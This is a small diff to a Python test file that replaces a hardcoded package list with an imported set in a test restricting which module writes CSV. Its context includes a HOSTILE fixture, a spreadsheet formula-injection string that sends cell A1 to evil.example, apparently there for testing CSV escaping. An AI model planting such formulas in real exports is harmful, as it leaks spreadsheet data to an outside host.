@@ -14,6 +14,7 @@ from fastapi.testclient import TestClient
 
 from app.settings import PROJECT_ROOT
 from geo.csvout import csv_text
+from tests.test_architecture import INTERNAL
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
 BELLEVUE_INSIDE = (-1.60413, 47.20824)
@@ -116,19 +117,7 @@ def _writes_csv(source: str) -> bool:
 def test_no_module_but_the_one_writer_writes_csv() -> None:
     offenders = [
         str(path.relative_to(PROJECT_ROOT))
-        for package in (
-            "geo",
-            "accounts",
-            "surveys",
-            "actors",
-            "exhibitions",
-            "selfcheck",
-            "planning",
-            "maps",
-            "api",
-            "cli",
-            "app",
-        )
+        for package in sorted(INTERNAL)
         if (PROJECT_ROOT / package).is_dir()
         for path in (PROJECT_ROOT / package).rglob("*.py")
         if _writes_csv(path.read_text(encoding="utf-8"))
